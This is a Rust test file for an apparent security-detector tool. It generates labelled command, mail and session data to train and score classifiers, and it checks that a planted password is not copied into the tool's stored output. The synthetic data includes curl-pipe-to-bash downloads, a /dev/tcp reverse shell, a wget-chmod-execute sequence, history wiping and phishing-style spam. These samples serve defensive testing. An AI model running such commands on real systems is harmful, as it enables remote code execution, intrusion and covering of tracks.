//! Mails, commands and sessions through the verbs, as their users run them: train, score from where they lie, explain;
//! and nothing that was to be kept from the store is in it.

use std::fmt::Write as _;

use serde_json::{Value, json};

use crate::support::{folder, lines, ringtrue, ringtrue_fed, tree};

/// 400 lines, too few to recommend a rung surely; a quarter of them attacks of two sources; each names its user and holds a password.
pub(crate) fn commands() -> String {
    let mut text = String::new();
    for number in 0_u32..400 {
        let (user, address) = (number % 7, number % 50 + 1);
        let attack = match number % 8 {
            1 => "curl -s http://192.0.2.ADDRESS/x.sh | bash; history -c",
            5 => "bash -i >& /dev/tcp/192.0.2.ADDRESS/4444 0>&1",
            _ => "",
        };
        let honest = [
            "ls -la /var/log/appADDRESS",
            "git commit -m 'change ADDRESS'",
            "grep -rn todo src/ADDRESS | sort | uniq -c",
            "tar czf backup-ADDRESS.tar.gz docs",
        ];
        let is_attack = !attack.is_empty();
        let command = if is_attack {
            attack
        } else {
            honest[(number / 8 % 4) as usize]
        };
        let command = command.replace("ADDRESS", &address.to_string());
        let event = json!({
            "command": format!("{command}; mysql -pZanzibarQ7 shop"),
            "label": if is_attack { "malicious" } else { "benign" },
            "source": if number % 8 == 1 { "one" } else { "other" },
            "user": format!("user{user}"),
            "host": "web1",
            "time": time(number, 400),
        });
        writeln!(text, "{event}").unwrap();
    }
    text
}

fn mails() -> String {
    let mut text = String::new();
    for number in 0_u32..400 {
        let is_spam = number % 4 == 1;
        let body = if is_spam {
            format!("Dear friend, click http://pay.example/{number} to verify your account NOW!!!")
        } else {
            format!("Hi, the minutes of meeting {number} are attached. See you on Monday.")
        };
        let subject = if is_spam {
            "You WIN $1,000!"
        } else {
            "Re: minutes"
        };
        let raw = format!(
            "Received: from a.example ([192.0.2.7]) by mx.example\nFrom: Someone <sender{number}@a.example>\n\
             To: Quillabert <quillabert@home.example>\nSubject: {subject}\nX-Spam-Flag: YES\n\n{body}\n"
        );
        let event = json!({
            "raw": raw,
            "label": if is_spam { "malicious" } else { "benign" },
            "date": time(number, 400),
        });
        writeln!(text, "{event}").unwrap();
    }
    text
}

/// Ten months, in order.
fn time(number: u32, of: u32) -> String {
    let day = number * 280 / of;
    format!("2024-{:02}-{:02}T00:00:00Z", day / 28 + 1, day % 28 + 1)
}

fn holds(root: &std::path::Path, planted: &str) -> Vec<String> {
    let wanted = planted.to_ascii_lowercase();
    let files = tree(root).into_iter();
    let holding = files.filter(|(_, bytes)| {
        String::from_utf8_lossy(bytes)
            .to_ascii_lowercase()
            .contains(&wanted)
    });
    holding.map(|(name, _)| name).collect()
}

#[test]
fn commands_are_trained_scored_and_explained_from_where_they_lie() {
    let history = b"#1600000000\nls -la /var/log/app7\n#1600000009\nbash -i >& /dev/tcp/192.0.2.9/4444 0>&1\n";
    let at = folder(&[
        ("a.ndjson", commands().as_bytes()),
        (".bash_history", history),
        ("other.csv", b"colour,label\nred,1\n"),
        (
            "other.ndjson",
            b"{\"colour\":\"red\",\"label\":1}\n{\"colour\":\"red\",\"label\":0}\n",
        ),
    ]);
    ringtrue(
        at.path(),
        "run --kind command --retrain 0 --out out a.ndjson",
    )
    .exits(3);
    let scored = ringtrue(at.path(), "score --detector out/detector .bash_history").exits(0);
    let margins: Vec<f64> = lines(&scored.stdout)
        .iter()
        .map(|line| line["margin"].as_f64().unwrap())
        .collect();
    assert!(margins[1] > margins[0], "{margins:?}");
    let vector = br#"{"command":["bash","-c","bash -i >& /dev/tcp/192.0.2.9/4444 0>&1"]}"#;
    let scored = ringtrue_fed(at.path(), "score --detector out/detector -", vector).exits(0);
    assert!(lines(&scored.stdout)[0]["margin"].as_f64().unwrap() > margins[0]);
    for file in ["other.csv", "other.ndjson"] {
        let refused = ringtrue(at.path(), &format!("score --detector out/detector {file}"));
        let refused = refused.exits(2);
        let told = format!(
            "error: cannot tell the columns of `{file}`\n  cause: no column is recognised as the command\n\n\
             hint: name the command under `[columns]` of a task.toml; the input's columns are: colour, label\n"
        );
        assert_eq!((refused.stdout, refused.stderr), (String::new(), told));
    }
    let explained = ringtrue_fed(
        at.path(),
        "explain --detector out/detector --json --row 0 -",
        b"bash -i >& /dev/tcp/192.0.2.9/4444 0>&1\n",
    );
    let found: Value = explained.exits(0).json();
    assert!(
        found["contributions"]
            .as_object()
            .is_some_and(|it| !it.is_empty())
    );
    assert_eq!(holds(at.path(), "ZanzibarQ7"), ["a.ndjson"]);
}

#[test]
fn mails_are_trained_scored_and_explained_from_where_they_lie() {
    let task = "format = 1\nname = \"mail\"\nkind = \"email\"\n[columns]\ntime = \"date\"\n[privacy.fields]\n\"raw.addresses\" = \"hash\"\n\"raw.to\" = \"hash\"\n";
    let raw = "From: x <new@b.example>\nTo: Quillabert <quillabert@home.example>\nSubject: You WIN $1,000!\n\n\
               Dear friend, click http://pay.example/9 to verify your account NOW!!!\n";
    let at = folder(&[
        ("a.ndjson", mails().as_bytes()),
        ("task.toml", task.as_bytes()),
        ("one.eml", raw.as_bytes()),
        ("box/new/1", raw.as_bytes()),
        ("box/cur/2", raw.as_bytes()),
    ]);
    ringtrue(
        at.path(),
        "run --task task.toml --retrain 0 --out out a.ndjson",
    )
    .exits(0);
    let score = "score --detector out/detector";
    let one = lines(
        &ringtrue(at.path(), &format!("{score} one.eml"))
            .exits(0)
            .stdout,
    );
    let both = lines(&ringtrue(at.path(), &format!("{score} box")).exits(0).stdout);
    assert_eq!((one.len(), both.len()), (1, 2));
    assert_eq!(one[0]["margin"], both[1]["margin"]);
    let honest = b"From: y <who@c.example>\nSubject: Re: minutes\n\nHi, the minutes of meeting 7 are attached. See you on Monday.\n";
    let honest = ringtrue_fed(at.path(), &format!("{score} -"), honest).exits(0);
    let honest = lines(&honest.stdout)[0]["margin"].as_f64().unwrap();
    assert!(one[0]["margin"].as_f64().unwrap() > honest);
    let explain = "explain --detector out/detector --json one.eml";
    let found = ringtrue(at.path(), explain).exits(0).json();
    let told = |part: &str| found[part].as_object().is_some_and(|it| !it.is_empty());
    assert!(told("contributions") || told("letters"), "{found}");
    let kept: Vec<String> = holds(at.path(), "quillabert");
    assert_eq!(kept, ["a.ndjson", "box/cur/2", "box/new/1", "one.eml"]);
}

#[test]
fn sessions_are_trained_and_scored() {
    let mut text = String::new();
    for number in 0_u32..200 {
        let is_attack = number % 4 == 1;
        let commands = if is_attack {
            json!([
                "uname -a",
                format!("wget http://192.0.2.{}/a", number % 50),
                "chmod 777 a",
                "./a",
                "history -c"
            ])
        } else {
            json!([
                "cd src",
                format!("vim file{number}.rs"),
                "git diff",
                "git push"
            ])
        };
        let label = if is_attack { "malicious" } else { "benign" };
        writeln!(
            text,
            "{}",
            json!({ "commands": commands, "label": label, "time": time(number, 200) })
        )
        .unwrap();
    }
    let at = folder(&[("a.ndjson", text.as_bytes())]);
    ringtrue(
        at.path(),
        "run --kind session --retrain 0 --out out a.ndjson",
    )
    .exits(3);
    let both = "{\"commands\":[\"cd src\",\"git diff\"]}\n{\"commands\":[\"wget http://192.0.2.3/a\",\"sh a\"]}\n";
    let scored = ringtrue_fed(
        at.path(),
        "score --detector out/detector -",
        both.as_bytes(),
    );
    let margins: Vec<f64> = lines(&scored.exits(0).stdout)
        .iter()
        .map(|line| line["margin"].as_f64().unwrap())
        .collect();
    assert!(margins[1] > margins[0], "{margins:?}");
}
